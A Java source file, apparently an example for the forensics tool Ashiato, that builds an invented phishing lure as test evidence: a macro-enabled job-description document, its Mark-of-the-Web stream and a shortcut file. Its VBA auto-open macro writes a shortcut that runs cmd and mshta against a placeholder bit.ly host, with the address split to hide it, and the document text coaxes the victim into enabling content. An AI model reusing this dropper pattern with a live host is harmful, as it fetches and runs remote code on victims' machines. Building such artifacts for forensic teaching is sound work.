package io.ashiato.cli.example.firstlook;

import static io.ashiato.cli.example.firstlook.Network.at;
import static java.nio.charset.StandardCharsets.US_ASCII;

import io.ashiato.cli.example.StoredZip;
import io.ashiato.readers.OoxmlWriter;
import io.ashiato.readers.VbaProjectWriter;
import io.ashiato.readers.lnk.LnkWriter;
import java.time.Instant;

/// What the victim was sent: a document with a macro, the browser's note of where it came from, and the
/// shortcut that the macro writes. What an invented report publishes of them ([InventedKnowledge]) is taken
/// from the constants here.
final class Lure {
    static final String DOCUMENT_NAME = "Senior Administrator - Job Description.docm";
    static final String SHORTCUT_NAME = "Job Description.lnk";

    static final String DOWNLOAD_HOST = "files.chainjobs.example";
    private static final String HOST_URL = "https://" + DOWNLOAD_HOST + "/d/7f31/Senior%20Administrator.docm";

    /// The message came to a private account, so no mail of the company tells of it.
    private static final String REFERRER_URL = "https://www.worknet.example/messaging/thread/6581204";

    // A point cannot be part of a real bit.ly address, so this one leads nowhere.
    static final String LINK = "https://bit.ly/2Kx.example";
    static final String WORKING_FOLDER = "C:\\Users\\Public\\Music\\";
    static final String COMMAND_ARGUMENTS = "/c start /b %SystemRoot%\\System32\\mshta " + LINK;

    static final String AUTHOR = "Meridian HR";
    static final String LAST_SAVED_BY = "kestrel";
    static final String COMPANY = "Chainjobs Partners";
    static final String TEMPLATE = "offer_v3.dotm";
    static final String TITLE = "Senior Administrator - Job Description";
    static final int WORDS = 742;

    static final String MACHINE_ID = "desktop-k7ex0mp";
    static final String MAC = "00:00:5e:00:53:4b"; // reserved for documentation (RFC 7042)
    static final long VOLUME_SERIAL = 0x5E2A91C4L;
    private static final String VOLUME = "3d1c7a52-6f0b-4e86-9a41-0c5be7d2f918";
    private static final Instant BUILT = at("09-24 07:41:12");

    private Lure() {}

    static byte[] document() {
        byte[] macros = new VbaProjectWriter("Project", 1252)
                .document("ThisDocument", MACRO)
                .bytes();
        return StoredZip.repacked(new OoxmlWriter()
                .title(TITLE)
                .author(AUTHOR)
                .lastSavedBy(LAST_SAVED_BY)
                .created(at("09-24 07:52:00"))
                .modified(at("09-30 02:18:00"))
                .extended("Company", COMPANY)
                .extended("Template", TEMPLATE)
                .extended("Words", Integer.toString(WORDS))
                .rsids("00A51E7D", "00C3104F")
                .paragraph("This document is protected under the General Data Protection Regulation.")
                .paragraph("To read it, choose \"Enable Editing\" and then \"Enable Content\".")
                .paragraph("(An invented lure, made for an example of Ashiato. Its macro cannot run: the address in it"
                        + " leads nowhere.)")
                .macros(macros)
                .bytes());
    }

    /// The stream `Zone.Identifier` of the document, which the browser wrote.
    static byte[] markOfTheWeb() {
        return markLines().getBytes(US_ASCII);
    }

    /// The same on one line, as Sysmon has it.
    static String markInLog() {
        return markLines().replace("\r\n", "  ");
    }

    private static String markLines() {
        return "[ZoneTransfer]\r\nZoneId=3\r\nReferrerUrl=" + REFERRER_URL + "\r\nHostUrl=" + HOST_URL + "\r\n";
    }

    /// The shortcut, which was made on the author's computer and lies in the macro as it is.
    static byte[] shortcut() {
        String cmd = "C:\\Windows\\System32\\cmd.exe";
        return new LnkWriter()
                .target(cmd)
                .times(at("03-19 04:45:12"), at("09-24 07:40:02"), at("03-19 04:45:12"))
                .fileSize(278_528)
                .showCommand(7)
                .volume(3, VOLUME_SERIAL, "", cmd)
                .relativePath("..\\..\\..\\..\\..\\Windows\\System32\\cmd.exe")
                .workingDir(WORKING_FOLDER)
                .arguments(COMMAND_ARGUMENTS)
                .icon("C:\\Windows\\System32\\shell32.dll", 1)
                .tracker(MACHINE_ID, VOLUME, BUILT, MAC)
                .bytes();
    }

    private static final String MACRO = """
            Private Sub Document_Open()
                Dim place As String
                Dim shell As Object
                place = Environ("TEMP") & "\\Job Description.lnk"
                Set shell = CreateObject("WScript.Shell")
                With shell.CreateShortcut(place)
                    .TargetPath = Environ("SystemRoot") & "\\System32\\cmd.exe"
                    .Arguments = "/c start /b %SystemRoot%\\System32\\mshta " & "https://bi" & "t.ly/2Kx" & ".example"
                    .WorkingDirectory = "C:\\Users\\Public\\Music\\"
                    .IconLocation = "C:\\Windows\\System32\\shell32.dll, 1"
                    .WindowStyle = 7
                    .Save
                End With
                shell.Run "explorer.exe \"\"\" & place & \"\"\"\", 1, False
            End Sub
            """;
}
